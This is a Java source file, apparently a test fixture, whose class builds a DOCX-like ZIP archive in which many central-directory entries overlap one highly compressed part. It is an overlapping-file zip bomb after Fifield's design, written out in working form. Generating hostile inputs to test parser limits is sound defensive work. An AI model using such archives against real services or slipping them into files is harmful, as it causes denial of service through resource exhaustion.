package org.huiyin.evidence;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import org.huiyin.evidence.strip.PlantedOffice;

/// A document whose directory names one packed part many times over (David Fifield's *A better zip
/// bomb*, without its refinements).
public final class Overlapping {

  private Overlapping() {}

  public static byte[] archive(int times, int unpacked) {
    byte[] part = ("<x>" + " ".repeat(unpacked) + "</x>").getBytes(StandardCharsets.US_ASCII);
    String types = PlantedOffice.word().getOrDefault("[Content_Types].xml", "");
    List<Entry> entries = new ArrayList<>();
    Bytes archive = new Bytes();
    int at = 0;
    Entry list = entry("[Content_Types].xml", types.getBytes(StandardCharsets.UTF_8), at);
    at += list.local.length;
    archive.bytes(list.local);
    entries.add(list);
    Entry one = entry("word/a00.xml", part, at);
    archive.bytes(one.local);
    int directory = at + one.local.length;
    for (int i = 0; i < times; i++) {
      entries.add(one);
    }
    Bytes central = new Bytes();
    for (int i = 0; i < entries.size(); i++) {
      String name = i == 0 ? "[Content_Types].xml" : "word/a%02d.xml".formatted(i);
      central.bytes(entries.get(i).central(name));
    }
    byte[] made = central.made();
    return archive
        .bytes(made)
        .text("PK\5\6")
        .zeros(4)
        .bytes(little(entries.size(), 2))
        .bytes(little(entries.size(), 2))
        .u32Little(made.length)
        .u32Little(directory)
        .zeros(2)
        .made();
  }

  private static byte[] little(long number, int bytes) {
    byte[] little = new byte[bytes];
    for (int i = 0; i < bytes; i++) {
      little[i] = (byte) (number >> (8 * i));
    }
    return little;
  }

  private static final class Entry {
    final byte[] local;
    private final byte[] sizes;
    private final int at;

    Entry(byte[] local, byte[] sizes, int at) {
      this.local = local;
      this.sizes = sizes;
      this.at = at;
    }

    byte[] central(String name) {
      return new Bytes()
          .text("PK\1\2")
          .bytes(little(20, 2))
          .bytes(little(20, 2))
          .bytes(little(0, 2))
          .bytes(little(8, 2))
          .zeros(4)
          .bytes(sizes)
          .bytes(little(name.length(), 2))
          .zeros(2 + 2 + 2 + 2 + 4)
          .u32Little(at)
          .text(name)
          .made();
    }
  }

  private static Entry entry(String name, byte[] content, int at) {
    Deflater deflater = new Deflater(9, true);
    deflater.setInput(content);
    deflater.finish();
    byte[] packed = new byte[content.length / 100 + 10_000];
    int length = deflater.deflate(packed);
    deflater.end();
    CRC32 sum = new CRC32();
    sum.update(content);
    byte[] sizes =
        new Bytes().u32Little(sum.getValue()).u32Little(length).u32Little(content.length).made();
    byte[] local =
        new Bytes()
            .text("PK\3\4")
            .bytes(little(20, 2))
            .bytes(little(0, 2))
            .bytes(little(8, 2))
            .zeros(4)
            .bytes(sizes)
            .bytes(little(name.length(), 2))
            .zeros(2)
            .text(name)
            .bytes(Arrays.copyOf(packed, length))
            .made();
    return new Entry(local, sizes, at);
  }
}
